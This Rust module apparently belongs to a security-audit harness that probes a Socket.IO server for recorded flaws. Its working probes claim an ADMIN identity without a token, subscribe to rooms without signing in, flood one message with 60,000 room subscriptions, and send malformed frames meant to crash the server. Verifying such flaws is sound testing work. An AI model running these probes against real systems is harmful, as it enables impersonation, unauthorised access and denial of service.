//! What a stranger can do over the socket.

use std::time::Duration;

use anyhow::{Context as _, Result};
use futures_util::{SinkExt as _, StreamExt as _};
use serde_json::{Value, json};
use tokio::{net::TcpStream, time::timeout};
use tokio_tungstenite::{MaybeTlsStream, WebSocketStream, connect_async, tungstenite::Message};

use super::{Found, Target, people::Case, shortened};

/// How long an answer is waited for that should not come.
const PATIENCE: Duration = Duration::from_secs(2);
/// As many rooms as the study had put into one message.
const MANY: usize = 60_000;

type Socket = WebSocketStream<MaybeTlsStream<TcpStream>>;

pub(super) async fn attack(target: &Target, found: &mut Vec<Found>) -> Result<()> {
    let me = json!({
        "userId": 1, "institutionId": 1, "role": "ADMIN", "token": null,
    });
    let got = said(target, "authenticate", &me, "authenticated").await?;
    found.push(Found {
        hole: "O1",
        tried: "be somebody by saying so on the socket",
        got: got
            .filter(|answer| answer.get("success") == Some(&json!(true)))
            .as_ref()
            .map(shown),
    });
    let rooms = json!({ "rooms": ["institution:1", "user:1", "batch:1"] });
    let got = said(target, "subscribe", &rooms, "subscribed").await?;
    found.push(Found {
        hole: "O2",
        tried: "follow rooms without having signed in",
        got: got.filter(has_rooms).as_ref().map(shown),
    });
    let many: Vec<String> = (0..MANY).map(|n| format!("batch:{n}")).collect();
    let got = said(target, "subscribe", &json!({ "rooms": many }), "subscribed").await?;
    found.push(Found {
        hole: "O2",
        tried: "follow sixty thousand rooms by one message",
        got: got.filter(has_rooms).as_ref().map(shown),
    });
    found.push(broken_frames(target).await?);
    Ok(())
}

fn has_rooms(answer: &Value) -> bool {
    let rooms = answer.get("rooms").and_then(Value::as_array);
    rooms.is_some_and(|rooms| !rooms.is_empty())
}

fn shown(answer: &Value) -> String {
    shortened(&answer.to_string())
}

/// Frames of which one has ended the original.
async fn broken_frames(target: &Target) -> Result<Found> {
    for frame in [
        r#"42["subscribe",null]"#,
        r#"42["authenticate",null]"#,
        r#"42["subscribe"]"#,
        r#"42["unsubscribe",{"rooms":7}]"#,
        "42{",
        "9",
        r#"451-["photo",{"_placeholder":true,"num":0}]"#,
    ] {
        let mut socket = open(target).await?;
        // A server that hangs up on it has held.
        drop(socket.send(Message::text(frame)).await);
        drop(timeout(Duration::from_millis(100), socket.next()).await);
    }
    let got = (!target.lives().await).then(|| "the server does not answer any more".to_owned());
    Ok(Found {
        hole: "O3",
        tried: "end the server by a broken frame",
        got,
    })
}

/// A report and its resolution, of which somebody who listens is told nothing.
pub(super) async fn untold(
    target: &Target,
    owner: &str,
) -> Result<(Option<String>, Option<String>)> {
    let mut socket = open_with(target, &json!({ "token": owner })).await?;
    // Where the first message is not believed, this one may be.
    let me = json!(["authenticate", { "token": owner }]);
    socket.send(Message::text(format!("42{me}"))).await?;
    let case = Case::report(target, owner).await?;
    let silence = async |socket: &mut Socket, event: &str| {
        let heard = hears(socket, &[&case.canary, event]).await;
        (!heard).then(|| format!("no {event} within {PATIENCE:?}"))
    };
    let reported = silence(&mut socket, "incident:reported").await;
    case.resolve(target, owner).await?;
    let resolved = silence(&mut socket, "incident:resolved").await;
    Ok((reported, resolved))
}

/// Whether a message comes that has all these words.
async fn hears(socket: &mut Socket, words: &[&str]) -> bool {
    let heard = timeout(PATIENCE, async {
        while let Some(Ok(message)) = socket.next().await {
            let text = message.into_text().unwrap_or_default();
            if words.iter().all(|word| text.contains(word)) {
                return true;
            }
        }
        false
    });
    heard.await.unwrap_or_default()
}

async fn open(target: &Target) -> Result<Socket> {
    open_with(target, &Value::Null).await
}

async fn open_with(target: &Target, me: &Value) -> Result<Socket> {
    let url = target.url.replacen("http", "ws", 1);
    let url = format!("{url}/socket.io/?EIO=4&transport=websocket");
    let (mut socket, _) = connect_async(url).await.context("no socket")?;
    let me = me.as_object().map(|_| me.to_string()).unwrap_or_default();
    socket.send(Message::text(format!("40{me}"))).await?;
    Ok(socket)
}

/// The body of the answer to something that a stranger says; none when there is none.
async fn said(target: &Target, name: &str, body: &Value, answer: &str) -> Result<Option<Value>> {
    let mut socket = open(target).await?;
    // A server that hangs up on it has held.
    drop(
        socket
            .send(Message::text(format!("42{}", json!([name, body]))))
            .await,
    );
    let start = format!("42[\"{answer}\",");
    let heard = timeout(PATIENCE, async {
        while let Some(Ok(message)) = socket.next().await {
            let text = message.into_text().unwrap_or_default();
            if let Some(rest) = text.strip_prefix(&start) {
                let body = rest.strip_suffix(']').unwrap_or(rest);
                return serde_json::from_str(body).ok();
            }
        }
        None
    });
    Ok(heard.await.unwrap_or_default())
}
